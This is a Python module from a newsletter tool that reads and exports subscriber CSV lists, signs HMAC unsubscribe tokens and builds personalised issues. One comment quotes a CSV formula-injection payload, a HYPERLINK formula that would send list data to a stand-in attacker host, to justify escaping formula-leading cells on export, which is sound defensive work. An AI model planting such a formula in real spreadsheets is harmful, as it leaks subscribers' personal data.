"""Subscribers: a list read from CSV, their unsubscribe tokens and links, the issue as each gets it, and
unsubscribing.

What the newsletter remembers of them (status, the delivery journal) is in its database (store/).
"""

from __future__ import annotations

import base64
import csv
import hashlib
import hmac
import logging
import os
import re
import sqlite3
import stat
from collections.abc import Iterable, Mapping
from dataclasses import replace
from datetime import UTC, datetime
from email.message import EmailMessage
from pathlib import Path
from typing import TYPE_CHECKING, Any, TextIO
from urllib.parse import quote

from ..addresses import Mailbox, address_list
from ..config import Config
from ..errors import ConfigError, PublisherError
from ..model import DigestState
from .message import build_message, stamped
from .store.subscribers import Subscriber

if TYPE_CHECKING:
    from .store import StoredIssue, SubscriberRecord

log = logging.getLogger("publisher")

SECRET_ENV = "PUBLISHER_UNSUBSCRIBE_SECRET"
# Where each subscriber's own unsubscribe URL goes in the rendered issue: a plain https URL that survives
# inlining and escaping unchanged, replaced per message.
UNSUBSCRIBE_MARKER = "https://unsubscribe.invalid/publisher-subscriber-link"
_PLACEHOLDER = re.compile(r"(?<!\{)\{(\w+)\}(?!\})")  # {token}, {email}, {name}; never {{ merge tags }}


def read_subscribers(path: str | Path, errors: list[str] | None = None) -> list[Subscriber]:
    """A CSV file with a header row: ``email`` (``name@example.org`` or ``Name <name@example.org>``), optional
    ``name`` (else the display name), any other columns kept as merge fields.

    A row whose address is not one is reported (logged, appended to ``errors``) and skipped; an
    address listed twice is sent to once. A file without an ``email`` column, or a path that is not a
    regular file (a FIFO, a device, a folder), is a ConfigError.
    """
    path = Path(path)
    subscribers: dict[str, Subscriber] = {}
    with _open_list(path) as handle:
        try:
            reader = csv.DictReader(handle)
            columns = [c.strip().lower() for c in reader.fieldnames or []]
            if "email" not in columns:
                raise ConfigError(f"{path}:1: no 'email' column (the first row names the columns: email,name,...)")
            reader.fieldnames = columns
            for row in reader:
                box, problem = _mailbox(row)
                if box is None:
                    message = f"{path}:{reader.line_num}: {problem}; skipped"
                    log.warning("%s", message)
                    if errors is not None:
                        errors.append(message)
                    continue
                row = {k: _from_cell(v) for k, v in row.items()}
                name = (row.get("name") or "").strip() or box.name  # the name column wins over a display name
                extra = {k: (v or "").strip() for k, v in row.items() if k not in ("email", "name") and k}
                subscribers.setdefault(box.address.lower(), Subscriber(box.address, name, extra))
        except (csv.Error, UnicodeDecodeError) as exc:
            raise ConfigError(f"{path}: not a CSV file in UTF-8 ({exc})") from None
    return list(subscribers.values())


def _open_list(path: Path) -> TextIO:
    """The list opened as text, or ConfigError. Only a regular file is read: /dev/zero never ends and a
    FIFO waits for a writer, and either would hold the send forever. O_NONBLOCK makes opening a FIFO
    return at once, so that fstat can refuse it; on a regular file it changes nothing."""
    try:
        fd = os.open(path, os.O_RDONLY | os.O_NONBLOCK | getattr(os, "O_CLOEXEC", 0))
    except OSError as exc:
        raise ConfigError(f"{path}: cannot read the subscriber list ({exc.strerror or exc})") from None
    try:
        regular = stat.S_ISREG(os.fstat(fd).st_mode)
    except OSError:
        regular = False
    if not regular:
        os.close(fd)
        raise ConfigError(f"{path}: is not a regular file")
    return open(fd, encoding="utf-8-sig", newline="")


# A spreadsheet opening a CSV runs a cell that starts with one of these as a formula (CWE-1236): a name
# typed into the signup form as =HYPERLINK("https://evil.example/?"&A2) would send the list away.
FORMULA_STARTS = ("=", "+", "-", "@", "\t", "\r")


def _to_cell(value: object) -> object:
    """A value as an export writes it: text that a spreadsheet would run gets a leading apostrophe
    (OWASP's advice; the apostrophe is not shown), which _from_cell takes off again."""
    return "'" + value if isinstance(value, str) and value.startswith(FORMULA_STARTS) else value


def _from_cell(value: str | None) -> str | None:
    if value and value.startswith("'") and value[1:].startswith(FORMULA_STARTS):
        return value[1:]
    return value


def _mailbox(row: Mapping[str, str | None]) -> tuple[Mailbox | None, str]:
    """The row's one address (``name@example.org`` or ``Name <name@example.org>``), or why it has none."""
    email = (_from_cell(row.get("email")) or "").strip()
    try:
        boxes = address_list(email, "email")
    except ConfigError:
        boxes = []
    if len(boxes) != 1:
        return (
            None,
            f"email: {email!r} is not one e-mail address (expected name@example.org or Name <name@example.org>)",
        )
    if any(c in (row.get("name") or "") for c in "\r\n"):
        return None, "name: holds a line break"
    return boxes[0], ""


# What an export adds to each row besides the address, the name and the merge fields; an import reads
# ``status`` back (so a list moved in keeps who left) and drops the others.
STORE_COLUMNS = ("status", "changed", "soft_bounces")


def import_csv(db: sqlite3.Connection, path: str | Path, errors: list[str] | None = None) -> tuple[int, int, int]:
    """Take the CSV list at ``path`` into the newsletter's database, in one transaction: (added, updated, kept).

    Rows are read as read_subscribers reads them; a ``status`` column (as export_csv writes it) gives
    each row's status, else active. Whoever unsubscribed, bounced or complained stays so."""
    from .store import STATUSES, import_subscribers

    people, statuses = [], {}
    for person in read_subscribers(path, errors):
        status = person.fields.get("status", "") or "active"
        if status not in STATUSES:
            message = f"{path}: {person.email}: status {status!r} is not one of {', '.join(STATUSES)}; skipped"
            log.warning("%s", message)
            if errors is not None:
                errors.append(message)
            continue
        statuses[person.key] = status
        fields = {k: v for k, v in person.fields.items() if k not in STORE_COLUMNS}
        people.append(Subscriber(person.email, person.name, fields))
    return import_subscribers(db, people, f"imported from {Path(path).name}", statuses)


def export_csv(records: Iterable[SubscriberRecord], handle: TextIO) -> int:
    """Write ``records`` as CSV (email, name, status, changed, soft_bounces, then every merge field), a
    list import_csv and send --subscribers read back; returns how many rows were written."""
    records = list(records)
    extra = sorted({k for r in records for k in r.subscriber.fields} - {"email", "name", *STORE_COLUMNS})
    writer = csv.writer(handle, lineterminator="\n")
    writer.writerow(["email", "name", *STORE_COLUMNS, *extra])
    for r in records:
        fields = r.subscriber.fields
        row = [r.subscriber.email, r.subscriber.name, r.status, r.changed, r.soft_bounces]
        writer.writerow([_to_cell(value) for value in (*row, *(fields.get(k, "") for k in extra))])
    return len(records)


def unsubscribe_token(secret: str | bytes, email: str, issue: str) -> str:
    """HMAC-SHA256 of the issue and the address (lower case), 128 bits, URL-safe base64 (22 characters).

    Unguessable without the secret, different for every subscriber and issue, and checkable by the
    site's unsubscribe endpoint (verify_token) without a database."""
    key = secret.encode() if isinstance(secret, str) else secret
    mac = hmac.new(key, f"{issue}\n{email.lower()}".encode(), hashlib.sha256).digest()[:16]
    return base64.urlsafe_b64encode(mac).rstrip(b"=").decode("ascii")


def verify_token(secret: str | bytes, token: str, email: str, issue: str) -> bool:
    return hmac.compare_digest(unsubscribe_token(secret, email, issue), token)


def unsubscribe_link(template: str, subscriber: Subscriber, token: str) -> str:
    """``template`` with {token}, {email}, {name} and the subscriber's merge fields filled in (URL-encoded).
    ESP merge tags ({{ ... }}) are left alone; an unknown {name} is a ConfigError."""
    values = {**subscriber.fields, "name": subscriber.name, "email": subscriber.email, "token": token}

    def fill(match: re.Match[str]) -> str:
        if match.group(1) not in values:
            raise ConfigError(
                f"[digest] unsubscribe_url: {{{match.group(1)}}} is neither token, email, name nor "
                f"a column of the subscriber list ({', '.join(sorted(subscriber.fields)) or 'none'})"
            )
        return quote(values[match.group(1)], safe="")

    return _PLACEHOLDER.sub(fill, template)


def personal_url(template: str | None) -> str | None:
    """The unsubscribe URL of a newsletter to each subscriber: ``template`` itself when it has {token};
    else ``template`` with ``token={token}`` added to its query, since without a token every reader
    would get the same one-click link, and anyone holding one message could unsubscribe them all."""
    if not template or needs_token(template):
        return template
    base, hash_, fragment = template.partition("#")
    return f"{base}{'&' if '?' in base else '?'}token={{token}}{hash_}{fragment}"


def list_url(template: str | None) -> str | None:
    """The unsubscribe URL of a digest for a list (an ESP's, or send --to): the query parameters whose
    value is one of our {placeholders} left out, since only a send to each subscriber fills them in
    (``/unsubscribe?token={token}`` becomes ``/unsubscribe``). ESP merge tags ({{ ... }}) stay."""
    if not template or not _PLACEHOLDER.search(template):
        return template
    base, hash_, fragment = template.partition("#")
    path, _, query = base.partition("?")
    kept = [p for p in query.split("&") if p and not _PLACEHOLDER.fullmatch(p.partition("=")[2])]
    return path + ("?" + "&".join(kept) if kept else "") + hash_ + fragment


def needs_token(template: str | None) -> bool:
    return bool(template) and "token" in _PLACEHOLDER.findall(template or "")


def require_secret(template: str | None, secret: str | None, what: str = "[digest] unsubscribe_url") -> None:
    """A ConfigError (exit 2, before anything is sent) when ``template`` has {token} and there is no secret."""
    if needs_token(template) and not secret:
        raise ConfigError(
            f"{what}: each subscriber's {{token}} is signed with a secret (a send to each subscriber adds one to an "
            f"unsubscribe_url without it): set the {SECRET_ENV} environment variable "
            "(a long random string, the same for every issue)"
        )


def state_to_json(state: DigestState) -> dict[str, Any]:
    """A --since-last state as the issue row keeps it until the issue is done."""
    return {
        "until": state.until.isoformat(),
        "message_id": state.message_id,
        "sent": {slug: when.isoformat() for slug, when in sorted(state.sent.items())},
    }


def state_from_json(data: Mapping[str, Any]) -> DigestState:
    return DigestState(
        until=datetime.fromisoformat(data["until"]),
        message_id=data.get("message_id"),
        sent={slug: datetime.fromisoformat(when) for slug, when in data["sent"].items()},
    )


def unsubscribe(db: sqlite3.Connection, address_or_token: str) -> str:
    """Put an address on the suppression list: given itself, or a token from an unsubscribe link (found in
    the journal). Returns the address; an unknown token is a PublisherError, an empty one a ConfigError."""
    from .store import delivery_of_token, set_status

    value = address_or_token.strip()
    if not value:  # the journal holds '' as the token of deliveries sent without one
        raise ConfigError("unsubscribe: the address or token is empty; give an e-mail address or the token of a link")
    try:
        value.encode("utf-8")
    except UnicodeEncodeError:  # bytes a shell passed on that are not UTF-8 (Python holds them as surrogates)
        raise ConfigError(f"unsubscribe: {value!r} is not UTF-8 text; give an e-mail address or a token") from None
    if "@" in value:
        address = address_list(value, "unsubscribe")
        if len(address) != 1:
            raise ConfigError(f"unsubscribe: {value!r} is not one e-mail address")
        email, reason = address[0].address, "unsubscribed by address"
    else:
        row = delivery_of_token(db, value)
        if row is None:
            raise PublisherError(f"unsubscribe: no delivery has the token {value!r}; check the link it came from")
        email, reason = row[0], f"unsubscribe link of {row[1]}"
    set_status(db, email, "unsubscribed", reason)
    return email.lower()


def personal_links(config: Config) -> Config:
    """``config`` with the unsubscribe URL of a send to each subscriber (personal_url), saying so when
    the {token} had to be added."""
    url = personal_url(config.digest.unsubscribe_url)
    if url == config.digest.unsubscribe_url:
        return config
    log.warning(
        "[digest] unsubscribe_url has no {token}: every subscriber would get the same one-click link, so each "
        "gets %s with their own token; write {token} where your unsubscribe page expects it",
        url,
    )
    return replace(config, digest=replace(config.digest, unsubscribe_url=url))


def personal_message(
    issue: StoredIssue, config: Config, subscriber: Subscriber, token: str, now: datetime | None = None
) -> EmailMessage:
    """The issue as ``subscriber`` gets it: To them, their unsubscribe link in the HTML, the text and
    List-Unsubscribe (one-click when https), Date of sending and a Message-ID of its own."""
    import html as html_escaping

    link = unsubscribe_link(config.digest.unsubscribe_url, subscriber, token) if config.digest.unsubscribe_url else None
    html, text = issue.html, issue.text
    if link:
        html = html.replace(html_escaping.escape(UNSUBSCRIBE_MARKER), html_escaping.escape(link))
        text = text.replace(UNSUBSCRIBE_MARKER, link)
    own = replace(
        config, digest=replace(config.digest, unsubscribe_url=link, to=str(Mailbox(subscriber.name, subscriber.email)))
    )
    message = build_message(own, subject=issue.subject, html=html, text=text, date=now or datetime.now(UTC))
    return stamped(message, config, now)
